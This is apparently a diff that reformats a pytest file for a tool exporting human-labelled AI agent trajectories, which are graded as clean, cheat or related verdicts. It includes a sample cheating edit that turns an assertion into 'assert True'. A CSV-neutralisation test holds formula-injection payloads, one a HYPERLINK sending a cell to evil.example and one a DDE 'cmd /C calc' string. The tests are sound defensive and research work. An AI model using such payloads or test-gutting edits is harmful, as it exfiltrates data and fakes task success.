@@ -33,7 +33,10 @@ RECORD_KEYS = [
 ]  # fmt: skip
 VERDICTS = ["clean", "honest_failure", "cheat", "attempted_cheat", "borderline", "unreviewable"]
 SAMPLE_IDS = sorted(p.stem for p in SAMPLE_DATA.glob("*.json"))
-PACK = [Label.from_dict(json.loads(line)) for line in (SAMPLE_DATA / "labels" / "two_reviewers.jsonl").read_text(encoding="utf-8").splitlines()]
+PACK = [
+    Label.from_dict(json.loads(line))
+    for line in (SAMPLE_DATA / "labels" / "two_reviewers.jsonl").read_text(encoding="utf-8").splitlines()
+]
 
 
 def run(db: Path, *args: str) -> Result:
@@ -68,7 +71,9 @@ def export_validator() -> Draft202012Validator:
 
 
 @pytest.mark.parametrize("aggregate", ["majority", "dawid-skene"])
-def test_every_record_validates_against_the_schema_with_keys_in_contract_order(sample_db: Path, tmp_path: Path, aggregate: str) -> None:
+def test_every_record_validates_against_the_schema_with_keys_in_contract_order(
+    sample_db: Path, tmp_path: Path, aggregate: str
+) -> None:
     records = export_records(sample_db, tmp_path, "--aggregate", aggregate)
     validator = export_validator()
     assert [r["trajectory_id"] for r in records] == SAMPLE_IDS
@@ -102,7 +107,14 @@ def test_tied_trajectory_is_exported_with_null_label_and_the_tie(sample_db: Path
     record = by_id(export_records(sample_db, tmp_path))["ambiguous-stop-exit"]
     assert record["label"] is None
     assert record["tie"] == ["cheat", "borderline"]
-    assert record["soft_label"] == {"clean": 0.0, "honest_failure": 0.0, "cheat": 0.5, "attempted_cheat": 0.0, "borderline": 0.5, "unreviewable": 0.0}
+    assert record["soft_label"] == {
+        "clean": 0.0,
+        "honest_failure": 0.0,
+        "cheat": 0.5,
+        "attempted_cheat": 0.0,
+        "borderline": 0.5,
+        "unreviewable": 0.0,
+    }
     assert (record["agreement"], record["categories"], record["markers"], record["intent"]) == (None, [], [], None)
     assert record["votes"] == {"alice": "borderline", "bob": "cheat"}
     assert not any(e["supports_gold"] for e in record["evidence"])
@@ -135,7 +147,12 @@ def test_gold_tags_keep_codes_chosen_by_at_least_half_and_the_lower_median_inten
 
 def test_record_fields_from_the_trajectory(sample_db: Path, tmp_path: Path) -> None:
     record = by_id(export_records(sample_db, tmp_path))["honest-fix"]
-    assert (record["task_id"], record["source"], record["model"], record["render_version"]) == ("timewin__timewin-212", "native", "claude-sonnet-4", RENDER_VERSION)
+    assert (record["task_id"], record["source"], record["model"], record["render_version"]) == (
+        "timewin__timewin-212",
+        "native",
+        "claude-sonnet-4",
+        RENDER_VERSION,
+    )
     assert record["text"].startswith("TASK timewin__timewin-212\n")
 
 
@@ -150,7 +167,9 @@ def test_every_source_text_of_every_step_sits_verbatim_at_its_recorded_start() -
     located: Counter[str] = Counter()
     for t in sample_trajectories():
         rendered = render(t)
-        places = [(step.index, source) for step in t.steps for source in SOURCES if source != "final_answer"] + [(0, "final_answer")]
+        places = [(step.index, source) for step in t.steps for source in SOURCES if source != "final_answer"] + [
+            (0, "final_answer")
+        ]
         for step, source in places:
             text = source_text(t, step, source)
             if text is not None:
@@ -189,7 +208,10 @@ def test_a_failed_edit_is_marked_in_the_text_not_shown_as_a_change() -> None:
     diff = "--- a/tests/test_x.py\n+++ b/tests/test_x.py\n@@ -1 +1 @@\n-assert f() == 1\n+assert True\n"
     t.file_edits = [FileEdit("tests/test_x.py", 1, None, None, diff, "tool_call", "modify", "failed")]
     text = render(t).text
-    assert f"[diff]\n(failed — not applied: the tool refused this edit, the file did not change; what it attempted follows)\n{diff}" in text
+    assert (
+        f"[diff]\n(failed — not applied: the tool refused this edit, the file did not change; what it attempted follows)\n{diff}"
+        in text
+    )
     assert RENDER_VERSION == 2
 
 
@@ -251,7 +273,9 @@ def test_output_is_replaced_whole_and_no_temporary_file_is_left(sample_db: Path,
 
 def test_a_failing_export_keeps_the_old_file(sample_copy_db: Path, tmp_path: Path) -> None:
     with Store(sample_copy_db) as store:  # a label under a verdict the taxonomy has since dropped
-        store.db.execute("update labels set verdict = 'retired', record = json_set(record, '$.verdict', 'retired') where annotator = 'bob' and trajectory_id = 'honest-fix'")
+        store.db.execute(
+            "update labels set verdict = 'retired', record = json_set(record, '$.verdict', 'retired') where annotator = 'bob' and trajectory_id = 'honest-fix'"
+        )
         store.db.conn.commit()
     out = tmp_path / "out" / "export.jsonl"
     out.parent.mkdir()
@@ -293,14 +317,19 @@ def test_missing_project_file_is_an_error(tmp_path: Path) -> None:
         (["--split", "train=1.5,val=-0.5"], "split 'train': share 1.5 must be above 0 and at most 1"),
         (["--split", "train"], "bad split 'train': expected name=share, e.g. train=0.8,val=0.1,test=0.1"),
         (["--split", "train=0.5,=0.5"], "bad split '=0.5': expected name=share, e.g. train=0.8,val=0.1,test=0.1"),
-        (["--verdict", "fraud"], "unknown verdict 'fraud' (known: clean, honest_failure, cheat, attempted_cheat, borderline, unreviewable)"),
+        (
+            ["--verdict", "fraud"],
+            "unknown verdict 'fraud' (known: clean, honest_failure, cheat, attempted_cheat, borderline, unreviewable)",
+        ),
         (["--format", "xml"], "unknown format 'xml' (known: jsonl, chat, csv)"),
         (["--aggregate", "vote"], "unknown aggregation 'vote' (known: majority, dawid-skene)"),
         (["--min-reviewers", "-1"], "--min-reviewers must be 0 or more"),
         (["--seed", "-3"], "--seed must be 0 or more"),
     ],
 )
-def test_bad_options_exit_2_with_one_line_and_write_nothing(sample_db: Path, tmp_path: Path, args: list[str], message: str) -> None:
+def test_bad_options_exit_2_with_one_line_and_write_nothing(
+    sample_db: Path, tmp_path: Path, args: list[str], message: str
+) -> None:
     out = tmp_path / "export.jsonl"
     result = run(sample_db, "-o", str(out), *args)
     assert result.exit_code == 2
@@ -314,8 +343,12 @@ def test_bad_options_exit_2_with_one_line_and_write_nothing(sample_db: Path, tmp
 def test_filters(sample_db: Path, tmp_path: Path) -> None:
     everything = by_id(export_records(sample_db, tmp_path))
     cheats = export_records(sample_db, tmp_path, "--verdict", "cheat")
-    assert [r["trajectory_id"] for r in cheats] == [t for t in SAMPLE_IDS if t not in ("ambiguous-stop-exit", "honest-failure-wrong-test", "honest-fix")]
-    assert [r["trajectory_id"] for r in export_records(sample_db, tmp_path, "--verdict", "honest_failure")] == ["honest-failure-wrong-test"]
+    assert [r["trajectory_id"] for r in cheats] == [
+        t for t in SAMPLE_IDS if t not in ("ambiguous-stop-exit", "honest-failure-wrong-test", "honest-fix")
+    ]
+    assert [r["trajectory_id"] for r in export_records(sample_db, tmp_path, "--verdict", "honest_failure")] == [
+        "honest-failure-wrong-test"
+    ]
     assert len(export_records(sample_db, tmp_path, "--min-reviewers", "2")) == 11
     assert export_records(sample_db, tmp_path, "--min-reviewers", "3") == []
     assert export_records(sample_db, tmp_path, "--only-adjudicated") == []
@@ -336,7 +369,12 @@ def test_adjudicated_label_is_gold_and_alone_supplies_the_details(sample_copy_db
     records = export_records(sample_copy_db, tmp_path, "--only-adjudicated")
     assert len(records) == 1
     r = records[0]
-    assert (r["trajectory_id"], r["label"], r["tie"], r["gold_method"]) == ("ambiguous-stop-exit", "borderline", [], "adjudicated")
+    assert (r["trajectory_id"], r["label"], r["tie"], r["gold_method"]) == (
+        "ambiguous-stop-exit",
+        "borderline",
+        [],
+        "adjudicated",
+    )
     assert r["soft_label"] == {**dict.fromkeys(VERDICTS, 0.0), "borderline": 1.0}
     assert (r["categories"], r["markers"], r["intent"], r["n_reviewers"], r["agreement"]) == ([], ["mr.reframe"], 2, 2, 0.5)
     assert r["votes"] == {"alice": "borderline", "bob": "cheat"}  # the adjudication is not a vote
@@ -373,7 +411,14 @@ def test_splits_keep_tasks_whole_and_hit_the_shares_per_label(split_db: Path, tm
     assert len(splits_of_task) == 50
     assert all(len(s) == 1 for s in splits_of_task.values())
     counts = Counter((r["split"], r["label"]) for r in records)
-    assert counts == {("train", "cheat"): 48, ("train", "clean"): 32, ("val", "cheat"): 6, ("val", "clean"): 4, ("test", "cheat"): 6, ("test", "clean"): 4}
+    assert counts == {
+        ("train", "cheat"): 48,
+        ("train", "clean"): 32,
+        ("val", "cheat"): 6,
+        ("val", "clean"): 4,
+        ("test", "cheat"): 6,
+        ("test", "clean"): 4,
+    }
 
 
 def test_trajectories_without_a_task_are_groups_of_their_own(tmp_path: Path) -> None:
@@ -393,7 +438,11 @@ def test_unlabelled_trajectories_are_a_stratum_of_their_own(split_db: Path, tmp_
         for i in range(100, 110):
             store.trajectories.add(Trajectory.from_dict({**synthetic(i, 4), "task": {"id": f"solo-{i}", "prompt": "p"}}))
     records = export_records(split_db, tmp_path, "--include-unlabelled")
-    assert Counter((r["split"], r["label"]) for r in records if r["label"] is None) == {("train", None): 8, ("val", None): 1, ("test", None): 1}
+    assert Counter((r["split"], r["label"]) for r in records if r["label"] is None) == {
+        ("train", None): 8,
+        ("val", None): 1,
+        ("test", None): 1,
+    }
 
 
 def test_a_training_export_holds_labelled_trajectories_unless_asked(sample_copy_db: Path, tmp_path: Path) -> None:
@@ -401,7 +450,9 @@ def test_a_training_export_holds_labelled_trajectories_unless_asked(sample_copy_
     with Store(sample_copy_db) as store:
         for i in range(4):
             store.trajectories.add(Trajectory.from_dict(synthetic(i, 4)))
-        store.labels.save(Label(synthetic(0, 4)["id"], "model:judge", verdict="cheat"), actor="judge", origin="test")  # a machine's is no label
+        store.labels.save(
+            Label(synthetic(0, 4)["id"], "model:judge", verdict="cheat"), actor="judge", origin="test"
+        )  # a machine's is no label
         store.labels.save(Label(synthetic(1, 4)["id"], "carol"), actor="carol", origin="test")  # nor one without a verdict
         store.labels.adjudicate(synthetic(3, 4)["id"], "dan", "clean", "obvious", None)  # a settlement is one
     unlabelled, settled = {synthetic(i, 4)["id"] for i in range(3)}, synthetic(3, 4)["id"]
@@ -474,7 +525,13 @@ def test_csv_format(sample_db: Path, tmp_path: Path) -> None:
     ]  # fmt: skip
     assert [r["trajectory_id"] for r in rows] == SAMPLE_IDS
     tied = rows[0]
-    assert (tied["label"], tied["tie"], tied["agreement"], tied["votes"], tied["n_evidence"]) == ("", "cheat;borderline", "", "alice=borderline;bob=cheat", "9")
+    assert (tied["label"], tied["tie"], tied["agreement"], tied["votes"], tied["n_evidence"]) == (
+        "",
+        "cheat;borderline",
+        "",
+        "alice=borderline;bob=cheat",
+        "9",
+    )
     assert (tied["soft_label.cheat"], tied["soft_label.clean"]) == ("0.5", "0.0")
     hardcoded = rows[SAMPLE_IDS.index("hardcoded-outputs")]
     assert hardcoded["categories"] == "output.hardcode;report.misleading_comment"
@@ -500,7 +557,12 @@ def test_csv_of_an_empty_store_is_the_header(tmp_path: Path) -> None:
 def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path: Path) -> None:
     db = tmp_path / "hostile.db"
     formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
-    data = {**synthetic(0, 4), "id": "@SUM(1+1)", "task": {"id": formula, "prompt": "p"}, "agent": {"model": "+cmd|' /C calc'!A0"}}
+    data = {
+        **synthetic(0, 4),
+        "id": "@SUM(1+1)",
+        "task": {"id": formula, "prompt": "p"},
+        "agent": {"model": "+cmd|' /C calc'!A0"},
+    }
     with Store(db) as store:
         store.trajectories.add(Trajectory.from_dict(data))
         store.labels.save(Label(data["id"], "-mallory", verdict="cheat", intent=4), actor="-mallory", origin="test")
@@ -512,7 +574,7 @@ def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path: Path) 
     assert row["votes"] == "'-mallory=cheat"
     line = text.splitlines()[1]
     assert line.startswith('"\'@SUM(1+1)","\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"')  # quoted, quotes doubled
-    assert ',4,' in line  # the intent is a number: unquoted, no quote mark
+    assert ",4," in line  # the intent is a number: unquoted, no quote mark
     assert run(db, "-o", str(out), "--format", "csv", "--csv-raw").exit_code == 0
     raw = next(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
     assert (raw["trajectory_id"], raw["task_id"], raw["votes"]) == ("@SUM(1+1)", formula, "-mallory=cheat")
@@ -520,7 +582,7 @@ def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path: Path) 
 
 def test_csv_row_keeps_numbers_and_neutralises_every_formula_start() -> None:
     starts = ["=1", "+1", "-1", "@1", "\t1", "\r1"]
-    assert csv_row([-1, 0.5, *starts, "a-b", ""]) == '-1,0.5,' + ",".join(f'"\'{s}"' for s in starts) + ',"a-b",""\n'
+    assert csv_row([-1, 0.5, *starts, "a-b", ""]) == "-1,0.5," + ",".join(f'"\'{s}"' for s in starts) + ',"a-b",""\n'
     assert csv_row([-1, "=1", "a b"], raw=True) == "-1,=1,a b\n"
 
 
@@ -571,7 +633,9 @@ def test_worker_processes_write_the_same_bytes(tmp_path: Path) -> None:
     for workers in (1, 2):
         parts: list[str] = []
         with Store(db) as store:
-            summary = export(store, ExportOptions(split="train=0.5,val=0.25,test=0.25", seed=3), parts.append, workers=workers, chunk=3)
+            summary = export(
+                store, ExportOptions(split="train=0.5,val=0.25,test=0.25", seed=3), parts.append, workers=workers, chunk=3
+            )
         outputs.append("".join(parts))
         assert summary.written == 11
     assert outputs[0] == outputs[1] and outputs[0].count("\n") == 11
